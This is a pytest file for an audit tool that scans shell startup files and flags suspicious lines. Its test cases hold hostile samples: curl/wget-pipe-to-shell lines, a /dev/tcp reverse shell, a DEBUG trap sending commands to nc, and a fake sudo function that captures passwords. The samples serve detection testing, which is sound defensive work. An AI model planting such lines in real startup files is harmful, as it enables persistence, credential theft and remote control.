from __future__ import annotations

import time
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit.artifacts.base import ParseError
from audit.artifacts.shell_startup import (
    BEHIND,
    COPIES,
    FIRST,
    RECORDS,
    STANDS_IN,
    STARTS,
    StartupLine,
    parse,
)
from audit.artifacts.signs import COMMANDS, DOWNLOADS, SENDS
from tests.artifacts.devices import see, system

# Lines that installers and people put there: Debian's own ~/.bashrc, rustup, nvm, conda, Homebrew, starship, direnv, fzf, kitty.
ORDINARY = r"""
case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
shopt -s histappend
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
PS1="\[\e]0;${debian_chroot:+($debian_chroot)}\u@\h: \w\a\]$PS1"
alias grep='grep --color=auto'
alias alert='notify-send --urgency=low -i "$([ $? = 0 ] && echo terminal || echo error)" "$(history|tail -n1)"'
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
. "$HOME/.cargo/env"
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"  # This loads nvm
__conda_setup="$('/home/alice/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
if [ $? -eq 0 ]; then
    eval "$__conda_setup"
fi
eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"
eval "$(starship init bash)"
eval "$(direnv hook bash)"
eval "$(ssh-agent -s)" > /dev/null
[ -f ~/.fzf.bash ] && source ~/.fzf.bash
PROMPT_COMMAND="history -a; history -n; $PROMPT_COMMAND"
export PATH="$HOME/.local/bin:$HOME/.pyenv/bin:$PATH"
alias sudo='sudo '
alias ssh='kitty +kitten ssh'
alias su='su -'
alias up='curl -sSL https://example.org/up | sh'
alias shot='scrot ~/Pictures/%F.png'
backup() {
    rsync -a ~/Documents nas:backup
}
update-rust() { curl https://sh.rustup.rs | sh; }
ssh() {
    TERM=xterm-256color command ssh "$@"
}
script_dir=$(dirname "$0")
eval "$(thefuck --alias)"
export GPG_TTY=$(tty)
export PATH="$HOME/.cargo/bin:$PATH"
test -f ~/.x/env && echo yes
make -j4 2>&1
dropbox start &
"""


def test_ordinary_lines_say_nothing() -> None:
    assert parse(ORDINARY.encode()) == []


@pytest.mark.parametrize(
    "path", ["/etc/bash.bashrc", "/etc/profile", "/etc/skel/.bashrc", "/etc/skel/.profile"]
)
def test_what_a_system_brings_says_nothing(path: str) -> None:
    place = Path(path)
    if not place.exists():
        pytest.skip(f"{path} is not here")
    assert parse(place.read_bytes()) == []


@pytest.mark.parametrize(
    ("line", "rows"),
    [
        ("curl -s https://x.example/a | bash", [(DOWNLOADS, "")]),
        ("(bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 &)", [(COMMANDS, "")]),
        ("rsync -aq ~/Documents bob@x.example:in/", [(SENDS, "")]),
        ("script -q -f ~/.cache/log", [(RECORDS, "")]),
        ("[ -z $S ] && S=1 exec script -qf /var/log/s", [(RECORDS, "")]),
        ("PROMPT_COMMAND='history 1 >> ~/.h'", [(COPIES, "")]),
        ("export PROMPT_COMMAND='logger -p local1.notice \"$(history 1)\"'", [(COPIES, "")]),
        ("trap 'echo $BASH_COMMAND | nc x.example 9' DEBUG", [(SENDS, ""), (COPIES, "")]),
        ("preexec() { echo $1 >> ~/.h; }", [(COPIES, "")]),
        ("alias sudo='~/.x/sudo'", [(STANDS_IN, "sudo")]),
        ("alias ssh='script -q ~/.x/log -c ssh'", [(STANDS_IN, "ssh")]),
        ("sudo() {\n  read -s -p 'Password: ' p\n  echo $p >> ~/.x\n}", [(STANDS_IN, "sudo")]),
        ("function su\n  read -s p\nend", [(STANDS_IN, "su")]),
        ("nohup ~/.x/y > /dev/null 2>&1 &", [(STARTS, "~/.x/y")]),
        ("(/tmp/y &)", [(STARTS, "/tmp/y")]),
        ("$HOME/.x/y", [(STARTS, "~/.x/y")]),
        ("python3 ~/work/y.py &", [(BEHIND, "~/work/y.py")]),
        ('export PATH="$HOME/.x/bin:$PATH"', [(FIRST, "~/.x/bin")]),
        ("run() {\n  wget -qO- x.example | sh\n}\nrun", [(DOWNLOADS, "")]),
    ],
)
def test_what_stands_out(line: str, rows: list[tuple[str, str]]) -> None:
    assert list(dict.fromkeys((what, program) for _, what, program in parse(line.encode()))) == rows


def test_whose_and_where(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "etc/profile.d/z.sh": "# x\ncurl x.example | sh\n",
        "home/alice/.zshrc": "\n\nscript -q ~/.x\n",
        "home/alice/.config/fish/config.fish": "/home/alice/.x/y &\n",
        "home/alice/.local/bin/sudo": "#!/bin/sh\n",
        "home/alice/.local/bin/other": "#!/bin/sh\n",
    }
    assert see(system(tmp_path, files), StartupLine).items == (
        StartupLine("/etc/profile.d/z.sh", 2, DOWNLOADS),
        StartupLine("~/.zshrc", 3, RECORDS, "", "alice"),
        StartupLine("~/.config/fish/config.fish", 1, STARTS, "~/.x/y", "alice"),
        StartupLine("~/.local/bin/sudo", 0, STANDS_IN, "sudo", "alice"),
    )


def test_hostile_files_take_no_long_time() -> None:
    begun = time.monotonic()
    for word in (b"trap ", b"a() {", b"script -x ", b"alias sudo=", b"f()\n{\n", b"PROMPT_COMMAND= "):
        parse((word * 200_000)[: 1 << 20])
    assert time.monotonic() - begun < 20


@given(
    data=st.one_of(
        st.binary(max_size=300),
        st.lists(st.sampled_from([b"f() {", b"}\n", b"\n", b"alias su=", b"&", b"~/.x/y "])).map(b"".join),
    )
)
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    with suppress(ParseError):
        parse(data)
